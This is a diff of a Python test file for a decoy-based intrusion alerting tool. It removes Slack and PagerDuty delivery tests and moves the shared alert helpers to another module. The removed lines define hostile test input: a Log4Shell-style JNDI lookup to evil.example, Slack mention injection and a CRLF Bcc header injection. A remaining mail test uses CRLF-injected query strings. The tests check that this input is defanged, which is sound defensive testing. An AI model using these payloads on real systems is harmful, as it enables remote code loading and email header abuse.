@@ -1,5 +1,5 @@
-"""The outlets for people: mail through a relay, Slack's and PagerDuty's shapes, the journal. Each against a receiver that misbehaves in every
-way, on loopback; what arrives is read by Python's own json and email modules."""
+"""The outlets for people: mail through a relay, and the journal. Each against a receiver that misbehaves in every way, on loopback; what arrives
+is read by Python's own json and email modules."""
 import array
 import base64
 import email
@@ -15,36 +15,8 @@ import struct
 import threading
 
 import harness
-from harness import Case, Certificates, DEADLINE, Server, reply
-
-QUICK = {"step": 2000, "answer": 700}
-EVIL = "${jndi:ldap://evil.example:1389/a} <!channel> @here <b> `x` *y* \u00e9\u202e .\r\nBcc: x@y.example"
-
-
-def alert(n, **more):
-    own = {"actor": "%032x" % 77, "sequence": n, "news": "new", "grade": "exploit", "normal": EVIL, "techniques": ["connect", "syn"],
-           "indicators": [{"scheme": "ldap", "host": "evil.example", "port": 1389}]}
-    own.update(more.pop("caltrop", {}))
-    event = {"@timestamp": "2026-11-25T20:00:00Z", "message": "JNDI payload (exploit) from 10.0.0.7 on web1",
-             "event": {"kind": "alert", "dataset": "caltrop.decoy", "action": "jndi-lookup", "id": "%032x" % n, "severity": 99},
-             "observer": {"hostname": "web1"}, "source": {"address": "10.0.0.7", "ip": "10.0.0.7"}, "n": n, "caltrop": own}
-    for key, value in more.items():
-        event[key] = {**event[key], **value} if isinstance(value, dict) and key in event else value
-    return event
-
-
-def quiet(kind, **own):
-    return alert(0, event={"kind": kind, "dataset": "caltrop.decoy_state", "severity": 0}, message=None, caltrop={"grade": None, **own})
-
-
-class Sends(Case):
-    def send(self, tool, n, event):
-        answer = tool.ask("offer %032x %s" % (n, json.dumps(event, separators=(",", ":"))))
-        self.assertEqual(answer, "ok")
-
-    def nothing_live(self, text):
-        self.assertNotIn("${", text)
-        self.assertNotIn("evil.example", text)
+from alerts import EVIL, QUICK, Sends, alert, quiet
+from harness import Certificates, DEADLINE
 
 
 class Relay:
@@ -368,150 +340,6 @@ class Mail(Sends):
                       "from=a@b.example&to=c@d.example%0d%0aDATA", "from=a@b.example&to=%3Cc@d.example%3E", "from=a@b.example&to=c@d.example&cc=x@y.example",
                       "from=a@b.example&to=c@d.example&tls=maybe", "from=a@b.example&to=c%4", "from=a@b.example&to=" + ",".join(["a@b.example"] * 17)):
             self.assertTrue(self.tool("smtp://127.0.0.1?" + query).greeting.startswith("wrong usage"), query)
-
-
-class Chat(Sends):
-    def server(self, script=None, **options):
-        s = Server(script=script, **options)
-        self.closers.append(s.close)
-        return s
-
-    def bodies(self, server):
-        return [json.loads(r.body) for r in server.requests]
-
-    def slack(self, server):
-        t = self.tool("slack+http://127.0.0.1:%d/services/T0/B0/secret" % server.port, token="not-for-slack", **QUICK)
-        self.assertEqual(t.greeting, "open")
-        return t
-
-    def pager(self, server, key="0123456789abcdef0123456789abcdef"):
-        path = os.path.join(self.dir, "key")
-        with open(path, "w") as f:
-            f.write(key + "\n")
-        t = self.tool("pagerduty+http://127.0.0.1:%d/v2/enqueue?routing-key-file=%s" % (server.port, path), **QUICK)
-        self.assertEqual(t.greeting, "open")
-        return t
-
-    def test_slack(self):
-        server = self.server()
-        tool = self.slack(server)
-        self.send(tool, 1, alert(1, caltrop={"normal": EVIL + "x" * 5000, **{"f%d" % i: "y" * 500 for i in range(60)}}))
-        self.send(tool, 2, quiet("event"))
-        self.send(tool, 3, quiet("state", state="alive"))
-        self.send(tool, 4, alert(4))
-        tool.await_stats(lambda s: s["delivered"] == 4)
-        tool.close()
-        self.assertEqual(len(server.requests), 2)
-        for r, body in zip(server.requests, self.bodies(server)):
-            self.assertEqual(r.line, "POST /services/T0/B0/secret HTTP/1.1")
-            self.assertNotIn("authorization", r.headers)
-            self.assertEqual(set(body), {"text", "blocks", "unfurl_links", "unfurl_media"})
-            header, section = body["blocks"]
-            self.assertEqual(header["type"], "header")
-            self.assertEqual(header["text"], {"type": "plain_text", "text": "JNDI payload (exploit) from 10.0.0.7 on web1", "emoji": False})
-            self.assertEqual(section["text"]["type"], "plain_text")
-            self.assertLessEqual(len(section["text"]["text"]), 3000)
-            for text in (body["text"], section["text"]["text"]):
-                self.nothing_live(text)
-                self.assertIn("evil[.]example", text)
-            for bad in "<>@`*":
-                self.assertNotIn(bad, body["text"])
-            self.assertNotIn(b"${", r.body)
-
-    def test_pagerduty(self):
-        server = self.server(lambda peer, k: harness.serve_all(peer, 202))
-        tool = self.pager(server)
-        actor = {"caltrop": {"grade": None, "news": "new"}, "event": {"severity": 73}}
-        self.send(tool, 1, alert(1, **actor))
-        self.send(tool, 2, alert(2, caltrop={"grade": None, "news": "grew"}, event={"severity": 73}))
-        self.send(tool, 3, alert(3, caltrop={"grade": None, "news": "ended"}, event={"severity": 73}))
-        self.send(tool, 4, alert(4, caltrop={"news": "ended"}))
-        self.send(tool, 5, alert(5, caltrop={"grade": None, "news": "ended", "evicted": True}, event={"severity": 73}))
-        attempt = {"event": {"kind": "alert", "dataset": "caltrop.attempt", "id": "%032x" % 6}, "source": {"ip": "192.0.2.1"},
-                   "caltrop": {"grade": "reach", "campaign": "evil.example/a"}}
-        self.send(tool, 6, attempt)
-        tool.await_stats(lambda s: s["delivered"] == 6)
-        tool.close()
-        bodies = self.bodies(server)
-        self.assertEqual([b["event_action"] for b in bodies], ["trigger", "trigger", "resolve", "trigger", "trigger", "trigger"])
-        self.assertEqual([b["dedup_key"] for b in bodies[:5]], ["%032x" % 77] * 5)
-        self.assertTrue(bodies[5]["dedup_key"].startswith("campaign-"))
-        self.assertEqual([b["payload"]["severity"] for b in bodies], ["error", "error", "error", "critical", "error", "critical"])
-        self.assertEqual(bodies[5]["payload"]["summary"], "Exploitation attempt (reach) from 192.0.2.1")
-        for r, b in zip(server.requests, bodies):
-            self.assertEqual(r.line, "POST /v2/enqueue HTTP/1.1")
-            self.assertEqual(b["routing_key"], "0123456789abcdef0123456789abcdef")
-            self.assertTrue(b["payload"]["summary"] and b["payload"]["source"])
-            self.assertLessEqual(len(b["dedup_key"]), 255)
-            self.nothing_live(json.dumps(b["payload"]))
-        self.assertEqual(bodies[0]["payload"]["timestamp"], "2026-11-25T20:00:00Z")
-        self.assertEqual(bodies[3]["payload"]["custom_details"]["indicators host"], "evil[.]example")
-
-    def test_deaf_and_alive_again(self):
-        server = self.server(lambda peer, k: harness.serve_all(peer, 202))
-        tool = self.pager(server)
-        deaf = quiet("alert", state="deaf")
-        states = [quiet("state", state="alive"), quiet("state", state="alive"), deaf, deaf, quiet("state", state="starting"), deaf,
-                  quiet("alert", state="deaf", reasons=["another"]), quiet("state", state="alive"), quiet("state", state="alive")]
-        for n, event in enumerate(states):
-            self.send(tool, n, event)
-        tool.await_stats(lambda s: s["delivered"] == len(states))
-        tool.close()
-        bodies = self.bodies(server)
-        self.assertEqual([b["event_action"] for b in bodies], ["resolve", "trigger", "trigger", "resolve"])
-        self.assertEqual(len({b["dedup_key"] for b in bodies}), 1)
-        self.assertEqual(bodies[1]["payload"]["summary"], "Decoy on web1 is deaf")
-        server = self.server()
-        tool = self.slack(server)
-        for n, event in enumerate(states):
-            self.send(tool, n, event)
-        tool.await_stats(lambda s: s["delivered"] == len(states))
-        tool.close()
-        self.assertEqual([b["blocks"][0]["text"]["text"] for b in self.bodies(server)], ["Decoy on web1 is deaf"] * 2 + ["Decoy on web1 is alive"])
-
-    def test_a_service_that_misbehaves_loses_nothing(self):
-        faults = [500, 503, 429, 404, 410, 403, None, 301, 400]
-
-        def script(peer, k):
-            while True:
-                peer.read_request()
-                with peer.server.condition:
-                    at = len(peer.server.requests) - 1
-                if at >= len(faults):
-                    peer.send(reply(202))
-                elif faults[at] is None:
-                    peer.reset()
-                    return
-                else:
-                    peer.send(reply(faults[at], [("Retry-After", "0")]))
-        for start in (self.slack, self.pager):
-            server = self.server(script)
-            tool = start(server)
-            for n in range(10):
-                self.send(tool, n, alert(n, message="number %d" % n))
-            s = tool.await_stats(lambda s: s["waiting"] == 0)
-            self.assertEqual((s["delivered"], s["dropped"], s["refused"]), (10, 0, 0))
-            tool.close()
-            titles = [re.search(r"number \d+", r.body.decode()).group() for r in server.requests]
-            self.assertEqual(list(dict.fromkeys(titles)), ["number %d" % n for n in range(10)])
-            for r, title in zip(server.requests, titles):
-                self.assertEqual(r.headers["idempotency-key"], "%032x" % int(title[7:]))
-
-    def test_a_message_that_is_refused_for_good(self):
-        server = self.server(lambda peer, k: harness.serve_all(peer, 400))
-        tool = self.slack(server)
-        self.send(tool, 1, alert(1))
-        tool.await_stats(lambda s: s["refused"] == 1)
-        tool.close()
-        self.assertEqual(len(server.requests), 3)
-
-    def test_what_is_no_address(self):
-        with open(os.path.join(self.dir, "empty"), "w"):
-            pass
-        for url in ("pagerduty+http://127.0.0.1/v2/enqueue", "pagerduty+http://127.0.0.1/?routing-key-file=" + self.dir + "/empty",
-                    "slack+http://hooks.example/x", "slack+https://", "pagerduty+ftp://x/", "slack:hooks"):
-            self.assertTrue(self.tool(url).greeting.startswith("wrong usage"), url)
-        self.assertTrue(self.tool("pagerduty+http://127.0.0.1/?routing-key-file=/nonexistent/key").greeting.startswith("not found"))
 
 
 def entry_of(data):
